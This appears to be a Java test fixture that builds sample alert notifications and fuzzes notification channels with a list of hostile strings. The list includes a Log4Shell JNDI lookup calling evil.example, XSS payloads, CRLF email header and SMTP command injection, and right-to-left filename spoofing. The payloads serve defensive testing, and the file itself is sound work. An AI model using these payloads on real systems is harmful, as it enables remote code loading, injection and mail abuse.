package io.onevault.connectors.notify;

import java.time.Instant;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.concurrent.TimeUnit;

/** Notifications to try channels with. */
final class Sample {

    static final long SINCE = micros("2026-03-01T14:03:07.250Z");
    static final long AT = micros("2026-03-01T14:15:09Z");

    /** What databases may hold, and what each channel might take for its own markup. */
    static final List<String> HOSTILE =
            List.of(
                    "\r\nBcc: everybody@example.org\r\n\r\nbody",
                    "<script>alert(1)</script><img src=x onerror=alert(1)>",
                    "<!channel> <@U123> <https://evil.example|click>",
                    "*bold* _italic_ ~strike~ `code` > quote",
                    "\"quotes\" 'and' \\backslashes\\ {json: [1,",
                    "\u202Egnp.exe\u2066 \u200F\u061C right to left",
                    "nul\u0000 bell\u0007 escape\u001B[2J delete\u007F c1\u009B",
                    "lone \uD800 surrogates \uDC00",
                    "tag \uDB40\uDC41\uDB40\uDC42 nonchar \uFFFF bom \uFEFF",
                    "x".repeat(1_000_000),
                    " \n".repeat(500_000) + "hidden",
                    "\uD83D\uDD25".repeat(10_000),
                    ".\r\n.\r\nQUIT\r\n",
                    "%s %n {} ${jndi:ldap://evil.example/a}",
                    "e\u0301".repeat(5_000),
                    "");

    private Sample() {}

    static Notification firing() {
        return builder("key-1", Status.FIRING, Severity.CRITICAL).build();
    }

    static Notification of(String key, Status status) {
        return builder(key, status, Severity.CRITICAL).build();
    }

    static Notification.Builder builder(String key, Status status, Severity severity) {
        return Notification.builder(key, "alert-7", status, severity)
                .finding("blocked_sessions", "12 sessions wait for a lock on orders")
                .where(
                        "orders-db",
                        "acme",
                        "lock_waiters",
                        Map.of("database", "orders", "relation", "public.orders"))
                .figure(12.0, 5.0, "sessions")
                .times(SINCE, AT)
                .advice(
                        "pid 4711 (app billing) is idle in transaction and holds the lock",
                        "End pid 4711 or ask its owner",
                        "https://grafana.example/d/locks?target=orders&x=1")
                .related(List.of("latency p99 high", "pool exhausted"), 4);
    }

    /** A notification in which every text is hostile. */
    static Notification hostile(Random random, Status status) {
        return Notification.builder(
                        pick(random) + "k", pick(random) + "a", status, Severity.WARNING)
                .finding(pick(random), pick(random))
                .where(
                        pick(random),
                        pick(random),
                        pick(random),
                        Map.of(pick(random) + "1", pick(random), pick(random) + "2", pick(random)))
                .figure(
                        List.of(Double.NaN, Double.NEGATIVE_INFINITY, 1e300, 0.1, -0.0)
                                .get(random.nextInt(5)),
                        Double.POSITIVE_INFINITY,
                        pick(random))
                .times(
                        random.nextBoolean() ? Long.MIN_VALUE : SINCE,
                        random.nextBoolean() ? Long.MAX_VALUE : AT)
                .advice(pick(random), pick(random), pick(random))
                .related(List.of(pick(random), pick(random)), -5)
                .build();
    }

    private static String pick(Random random) {
        return HOSTILE.get(random.nextInt(HOSTILE.size()));
    }

    private static long micros(String moment) {
        return TimeUnit.MILLISECONDS.toMicros(Instant.parse(moment).toEpochMilli());
    }
}
